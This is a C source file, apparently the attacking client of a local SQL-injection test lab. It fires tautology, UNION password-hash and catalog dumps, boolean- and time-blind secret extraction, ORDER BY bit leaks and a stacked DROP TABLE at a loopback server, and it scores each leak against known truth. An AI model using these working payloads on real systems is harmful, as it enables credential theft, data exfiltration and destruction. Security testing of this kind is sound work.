/*
 * client.c — the attacker's side: a blocking HTTP GET (a socket, HTTP/1.1, Connection: close), the
 * classic payloads, and the attacks, each counted against the truth the lab read as the schema's
 * owner (a leaked row is one whose owner is not the caller, a leaked hash one that matches a user's
 * real hash, a leaked character one that matches the secret at its place).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <jansson.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "hist.h"
#include "internal.h"

#define TIMEOUT_MS 8000
/* bits of a character of the secret ([a-z0-9] is ASCII: 7) */
#define CHAR_BITS 7

/* The payloads, as an attacker types them into the search box. */
static const char P_BASELINE[] = "plan";
static const char P_TAUTOLOGY[] = "' OR '1'='1' --";
static const char P_UNION_HASHES[] = "' UNION SELECT id, 0, username || ':' || password_hash FROM users --";
static const char P_UNION_CATALOG[] = "' UNION SELECT oid::bigint, 0, relname::text FROM pg_class"
                                      " WHERE relnamespace = '" SCHEMA "'::regnamespace AND relkind = 'r' --";
/* true (the caller's notes come back) when the character at %d is above %d */
static const char P_BLIND_BOOL[] = "' AND ascii(substr((SELECT value FROM secrets LIMIT 1), %d, 1)) > %d --";
/* slow when bit %d of the character at %d is 1: an InitPlan, run once per request */
static const char P_BLIND_TIME[] = "' AND (SELECT CASE WHEN ascii(substr(value, %d, 1)) & %d <> 0 THEN"
                                   " (SELECT count(*) FROM pg_sleep(%.3f)) = 1 ELSE true END FROM secrets"
                                   " LIMIT 1) --";
static const char P_STACKED[] = "'; DROP TABLE audit_log; --";
/* ?sort=: by title when the bit is 1, by id when it is 0 */
static const char P_ORDER[] = "(CASE WHEN ascii(substr((SELECT value FROM secrets LIMIT 1), %d, 1)) & %d <> 0"
                              " THEN title ELSE lpad(id::text, 20, '0') END)";

static const char *const TABLES[] = {"users", "notes", "secrets", "audit_log"};

static int connect_local(int port, char *err, size_t errlen)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in sin = {.sin_family = AF_INET,
	                          .sin_port = htons((uint16_t)port),
	                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	if (fd < 0 || connect(fd, (struct sockaddr *)&sin, sizeof(sin)) != 0) {
		snprintf(err, errlen, "cannot connect to 127.0.0.1:%d: %s", port, strerror(errno));
		if (fd >= 0)
			close(fd);
		return -1;
	}
	return fd;
}

/* Reads until the server closes, at most timeout_ms in all; the bytes read, -1 on a timeout. */
static ssize_t read_all(int fd, char *buf, size_t len, int timeout_ms)
{
	size_t n = 0;
	uint64_t deadline = hist_now_us() + (uint64_t)timeout_ms * 1000;
	while (n + 1 < len) {
		uint64_t now = hist_now_us();
		if (now >= deadline)
			return -1;
		struct pollfd p = {.fd = fd, .events = POLLIN};
		int r = poll(&p, 1, (int)((deadline - now) / 1000) + 1);
		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0)
			return -1;
		ssize_t got = recv(fd, buf + n, len - 1 - n, 0);
		if (got < 0 && errno == EINTR)
			continue;
		if (got <= 0)
			break;
		n += (size_t)got;
	}
	buf[n] = '\0';
	return (ssize_t)n;
}

int sqli_http_get(int port, const char *target, int timeout_ms, int *status, char *body, size_t bodylen,
                  char *err, size_t errlen)
{
	*status = 0;
	body[0] = '\0';
	int fd = connect_local(port, err, errlen);
	if (fd < 0)
		return -1;
	char head[4200];
	int len = snprintf(head, sizeof(head),
	                   "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", target);
	char *buf = malloc(SQLI_BODY_MAX);
	ssize_t n = -1;
	if (buf && len > 0 && (size_t)len < sizeof(head) && send(fd, head, (size_t)len, MSG_NOSIGNAL) == len)
		n = read_all(fd, buf, SQLI_BODY_MAX, timeout_ms);
	close(fd);
	const char *sep = n > 0 ? strstr(buf, "\r\n\r\n") : NULL;
	if (sep && sscanf(buf, "HTTP/1.%*d %d", status) == 1)
		snprintf(body, bodylen, "%s", sep + 4);
	else
		*status = 0;
	free(buf);
	return 0;
}

int sqli_url_encode(const char *s, char *out, size_t outlen)
{
	static const char HEX[] = "0123456789ABCDEF";
	size_t n = 0;
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		bool keep = (*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') ||
		            (*p >= '0' && *p <= '9') || strchr("-._~", *p);
		if (n + (keep ? 1 : 3) >= outlen)
			return -1;
		if (keep) {
			out[n++] = (char)*p;
		} else {
			out[n++] = '%';
			out[n++] = HEX[*p >> 4];
			out[n++] = HEX[*p & 15];
		}
	}
	out[n] = '\0';
	return 0;
}

/* One search; the parsed body (NULL when not JSON) for the caller to read and free. */
static json_t *ask(struct sqli_client *c, const char *q, const char *sort, const char *dir, int *status,
                   char *err, size_t errlen)
{
	char target[4096], eq[700], es[700], ed[700];
	if (sqli_url_encode(q ? q : "", eq, sizeof(eq)) < 0 ||
	    sqli_url_encode(sort ? sort : "", es, sizeof(es)) < 0 ||
	    sqli_url_encode(dir ? dir : "", ed, sizeof(ed)) < 0) {
		snprintf(err, errlen, "a payload does not fit a request");
		return NULL;
	}
	snprintf(target, sizeof(target), "%s?user=%d%s%s%s%s%s%s", c->route, SQLI_CALLER, q ? "&q=" : "", eq,
	         sort ? "&sort=" : "", es, dir ? "&dir=" : "", ed);
	if (sqli_http_get(c->port, target, TIMEOUT_MS, status, c->body, SQLI_BODY_MAX, err, errlen) < 0)
		return NULL;
	err[0] = '\0';
	return json_loads(c->body, 0, NULL);
}

int sqli_search(struct sqli_client *c, const char *q, const char *sort, const char *dir, int *status,
                int *rows, int64_t *first, char *err, size_t errlen)
{
	json_t *doc = ask(c, q, sort, dir, status, err, errlen);
	if (!doc && err[0])
		return -1;
	json_t *notes = json_object_get(doc, "notes");
	*rows = *status == 200 && json_is_array(notes) ? (int)json_array_size(notes) : -1;
	*first = *rows > 0 ? (int64_t)json_integer_value(json_object_get(json_array_get(notes, 0), "id")) : 0;
	json_decref(doc);
	return 0;
}

/* What the notes of one answer leak for attack a, counted against the truth. */
static int count_leaks(const struct sqli_client *c, enum sqli_attack a, json_t *notes)
{
	int leaked = 0;
	size_t i, k;
	json_t *n;
	json_array_foreach(notes, i, n)
	{
		const char *title = json_string_value(json_object_get(n, "title"));
		json_int_t owner = json_integer_value(json_object_get(n, "owner"));
		if ((a == SQLI_BASELINE || a == SQLI_TAUTOLOGY) && owner != SQLI_CALLER)
			leaked++;
		for (k = 0; a == SQLI_UNION_HASHES && title && k < (size_t)c->truth->nhashes; k++)
			leaked += !strcmp(title, c->truth->hashes[k]);
		for (k = 0; a == SQLI_UNION_CATALOG && title && owner == 0 && k < 4; k++)
			leaked += !strcmp(title, TABLES[k]);
	}
	return leaked;
}

/* One request of attack a into o: status, rows, the server's error. *rows -1: not a 200 page. */
static int one(struct sqli_client *c, enum sqli_attack a, const char *q, struct sqli_outcome *o, int *rows,
               char *err, size_t errlen)
{
	int status = 0;
	json_t *doc = ask(c, q, NULL, NULL, &status, err, errlen);
	if (!doc && err[0])
		return -1;
	o->requests++;
	o->status = status;
	json_t *notes = json_object_get(doc, "notes");
	*rows = status == 200 && json_is_array(notes) ? (int)json_array_size(notes) : -1;
	if (*rows > 0) {
		o->rows += *rows;
		o->leaked += count_leaks(c, a, notes);
	}
	const char *e = json_string_value(json_object_get(doc, "error"));
	if (status != 200)
		snprintf(o->said, sizeof(o->said), "%s", e ? e : "");
	json_decref(doc);
	return 0;
}

static int prefix_right(const char *read, const char *truth)
{
	int n = 0;
	while (read[n] && read[n] == truth[n])
		n++;
	return n;
}

/* Boolean-blind: a bisection of 0..127 per character (7 requests), until a character reads 0. */
static int blind_bool(struct sqli_client *c, struct sqli_route_run *run, char *err, size_t errlen)
{
	struct sqli_outcome *o = &run->a[SQLI_BLIND_BOOL];
	char q[256];
	int pos = 0, rows;
	for (; pos < SQLI_SECRET_MAX; pos++) {
		int lo = 0, hi = 127;
		while (lo < hi) {
			int mid = (lo + hi) / 2;
			snprintf(q, sizeof(q), P_BLIND_BOOL, pos + 1, mid);
			struct sqli_outcome probe = {0};
			if (one(c, SQLI_BLIND_BOOL, q, &probe, &rows, err, errlen) < 0)
				return -1;
			o->requests++, o->status = probe.status;
			if (probe.said[0])
				snprintf(o->said, sizeof(o->said), "%s", probe.said);
			if (rows > 0)
				lo = mid + 1;
			else
				hi = mid;
		}
		if (lo == 0)
			break;
		run->secret_read[pos] = (char)lo;
	}
	run->secret_read[pos] = '\0';
	o->leaked = prefix_right(run->secret_read, c->truth->secret);
	o->attempted = (int)strlen(c->truth->secret);
	return 0;
}

/* Time-blind: a request per bit, slow when it is 1; the threshold halfway above a plain request. */
static int blind_time(struct sqli_client *c, struct sqli_route_run *run, char *err, size_t errlen)
{
	struct sqli_outcome *o = &run->a[SQLI_BLIND_TIME];
	const struct sqli_config *cfg = c->cfg;
	char q[512];
	int rows;
	double plain = 1e9;
	for (int i = 0; i < 5; i++) {
		struct sqli_outcome probe = {0};
		uint64_t t0 = hist_now_us();
		if (one(c, SQLI_BASELINE, P_BASELINE, &probe, &rows, err, errlen) < 0)
			return -1;
		double ms = (hist_now_us() - t0) / 1000.0;
		plain = ms < plain ? ms : plain;
		o->requests++;
	}
	double threshold = plain + cfg->sleep_ms / 2.0;
	int chars = cfg->time_chars < (int)strlen(c->truth->secret) ? cfg->time_chars
	                                                            : (int)strlen(c->truth->secret);
	uint64_t t0 = hist_now_us();
	for (int pos = 0; pos < chars; pos++) {
		int ch = 0;
		for (int bit = 0; bit < CHAR_BITS; bit++) {
			snprintf(q, sizeof(q), P_BLIND_TIME, pos + 1, 1 << bit, cfg->sleep_ms / 1000.0);
			struct sqli_outcome probe = {0};
			uint64_t t1 = hist_now_us();
			if (one(c, SQLI_BLIND_TIME, q, &probe, &rows, err, errlen) < 0)
				return -1;
			o->requests++, o->status = probe.status;
			if (probe.said[0])
				snprintf(o->said, sizeof(o->said), "%s", probe.said);
			if ((hist_now_us() - t1) / 1000.0 > threshold)
				ch |= 1 << bit;
			sqli_progress(cfg, "time-blind", (pos * CHAR_BITS + bit + 1.0) / (chars * CHAR_BITS));
		}
		o->leaked += ch == c->truth->secret[pos];
	}
	o->attempted = chars;
	run->time_errors = chars - o->leaked;
	run->time_bit_ms = chars ? (hist_now_us() - t0) / 1000.0 / (chars * CHAR_BITS) : 0;
	return 0;
}

int sqli_order_attack(struct sqli_client *c, int chars, struct sqli_order_count *o, char *err, size_t errlen)
{
	int status, rows;
	int64_t by_title, by_id, first;
	/* the two orders the channel tells apart, from the route itself */
	if (sqli_search(c, "", "title", "asc", &status, &rows, &by_title, err, errlen) < 0 ||
	    sqli_search(c, "", "id", "asc", &status, &rows, &by_id, err, errlen) < 0)
		return -1;
	if (by_title == by_id || by_id == 0) {
		snprintf(err, errlen, "the caller's notes do not order differently by title and by id");
		return -1;
	}
	char sort[512];
	int n = (int)strlen(c->truth->secret);
	for (int pos = 0; pos < chars && pos < n; pos++)
		for (int bit = 0; bit < CHAR_BITS; bit++) {
			snprintf(sort, sizeof(sort), P_ORDER, pos + 1, 1 << bit);
			if (sqli_search(c, "", sort, "asc", &status, &rows, &first, err, errlen) < 0)
				return -1;
			o->requests++;
			o->status400 += status == 400;
			if (rows <= 0 || (first != by_title && first != by_id))
				continue;
			o->answered++;
			bool one_bit = first == by_title, truth = (c->truth->secret[pos] >> bit) & 1;
			o->right += one_bit == truth;
		}
	return 0;
}

int sqli_attack_all(struct sqli_client *c, struct sqli_route_run *run, char *err, size_t errlen)
{
	static const struct {
		enum sqli_attack a;
		const char *q;
	} SINGLE[] = {{SQLI_BASELINE, P_BASELINE},
	              {SQLI_TAUTOLOGY, P_TAUTOLOGY},
	              {SQLI_UNION_HASHES, P_UNION_HASHES},
	              {SQLI_UNION_CATALOG, P_UNION_CATALOG}};
	int rows;
	for (size_t i = 0; i < sizeof(SINGLE) / sizeof(SINGLE[0]); i++) {
		uint64_t t0 = hist_now_us();
		if (one(c, SINGLE[i].a, SINGLE[i].q, &run->a[SINGLE[i].a], &rows, err, errlen) < 0)
			return -1;
		run->a[SINGLE[i].a].ms = (hist_now_us() - t0) / 1000.0;
	}
	uint64_t t0 = hist_now_us();
	if (blind_bool(c, run, err, errlen) < 0)
		return -1;
	run->a[SQLI_BLIND_BOOL].ms = (hist_now_us() - t0) / 1000.0;
	t0 = hist_now_us();
	if (blind_time(c, run, err, errlen) < 0)
		return -1;
	run->a[SQLI_BLIND_TIME].ms = (hist_now_us() - t0) / 1000.0;
	t0 = hist_now_us();
	struct sqli_outcome *s = &run->a[SQLI_STACKED];
	if (one(c, SQLI_STACKED, P_STACKED, s, &rows, err, errlen) < 0)
		return -1;
	s->ms = (hist_now_us() - t0) / 1000.0;
	int exists = sqli_table_exists(c->cfg, err, errlen);
	if (exists < 0)
		return -1;
	run->table_dropped = !exists;
	s->leaked = run->table_dropped;
	s->attempted = 1;
	return 0;
}
